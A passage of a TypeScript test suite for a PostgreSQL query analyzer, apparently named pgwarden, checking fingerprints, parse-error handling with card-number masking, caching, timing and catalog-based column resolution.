    const a = analyzeStatements('SELECT pan FROM cards')[0]!.fingerprint;
    const b = analyzeStatements('SELECT id FROM cards')[0]!.fingerprint;
    expect(a).not.toBe(b);
  });

  it('returns no facts for empty text or comments only', () => {
    expect(analyzeStatements('')).toEqual([]);
    expect(analyzeStatements('  -- nothing\n')).toEqual([]);
  });

  it('refuses text that does not parse with PostgreSQL’s message, card numbers masked', () => {
    const error = catchError(() => analyzeStatements("SELEC '4111111111111111'"));
    expect(isPgwardenError(error, 'ERR_SQL_PARSE')).toBe(true);
    expect((error as Error).message).toBe('syntax error at or near "SELEC"');
    const leak = catchError(() => analyzeStatements('SELECT 1 4111111111111111'));
    expect((leak as Error).message).toBe('syntax error at or near "[card-number]"');
  });

  it('refuses a statement node type it does not classify', () => {
    const ctx = { catalog: undefined, searchPath: ['public'], out: new Collector(), viewDepth: 0 };
    const error = catchError(() => analyseStatement({ ReturnStmt: {} }, ctx));
    expect(isPgwardenError(error, 'ERR_SQL_UNCLASSIFIED')).toBe(true);
  });

  it('refuses an expression nested too deeply to walk instead of crashing', () => {
    const error = catchError(() =>
      analyzeStatements(`SELECT ${Array(5000).fill('1').join(' + ')}`),
    );
    expect(isPgwardenError(error, 'ERR_SQL_UNCLASSIFIED')).toBe(true);
  });

  it('serves a repeated text from the cache as the same frozen facts', () => {
    const first = analyzeStatements('SELECT pan FROM cards WHERE id = 42');
    const second = analyzeStatements('SELECT pan FROM cards WHERE id = 42');
    expect(second).toBe(first);
    expect(Object.isFrozen(first[0]!.outputs[0])).toBe(true);
    clearAnalysisCache();
    expect(analyzeStatements('SELECT pan FROM cards WHERE id = 42')).not.toBe(first);
  });

  it('answers a repeated statement from the cache in microseconds', () => {
    const sql = 'SELECT c.id, m.name FROM cards c JOIN merchants m ON m.id = c.merchant_id';
    analyzeStatements(sql);
    const started = performance.now();
    for (let i = 0; i < 10_000; i++) analyzeStatements(sql);
    // About 0.5 µs each on the development machine; the bound leaves room for slow CI hosts.
    expect(performance.now() - started).toBeLessThan(250);
  });

  it('resolves unqualified names on a given search_path without a catalog', () => {
    const [f] = analyzeStatements('SELECT pan FROM cards', undefined, ['payments']);
    expect(f!.tables).toEqual([{ schema: 'payments', name: 'cards', operations: ['read'] }]);
  });

  it('uses a catalog built from plain data', () => {
    const catalog = buildCatalog({
      relations: [{ schema: 'public', name: 'cards', columns: ['id', 'pan'] }],
      functions: { upper: ['pg_catalog'] },
    });
    const [f] = analyzeStatements('SELECT upper(c.pan), c.* FROM cards c', catalog);
    expect(summarize(f!)).toEqual({
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.id public.cards.pan',
      functions: 'pg_catalog.upper',
      outputs: 'upper<-[public.cards.pan] ; id<-[public.cards.id]! ; pan<-[public.cards.pan]!',
    });
  });
});

function catchError(fn: () => unknown): unknown {
  try {
    fn();
  } catch (err) {
    return err;
  }
  throw new Error('expected an error');
}
